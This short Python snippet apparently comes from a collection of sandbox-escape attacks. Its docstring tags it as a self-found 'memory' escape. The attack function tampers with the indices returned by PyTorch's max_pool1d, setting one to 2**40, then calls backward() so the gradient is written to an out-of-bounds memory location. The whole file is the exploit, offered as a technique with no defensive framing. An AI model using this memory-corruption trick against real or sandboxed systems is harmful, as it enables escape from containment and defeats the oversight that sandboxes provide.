"""Class: memory. Source: own find. Escape: max pooling's gradient goes where the returned indices say."""

import torch
import torch.nn.functional as F


def attack(model, tokenizer, address):
    x = torch.randn(1, 1, 10, requires_grad=True)
    out, indices = F.max_pool1d(x, 2, return_indices=True)
    indices.data[0] = 2**40
    out.sum().backward()
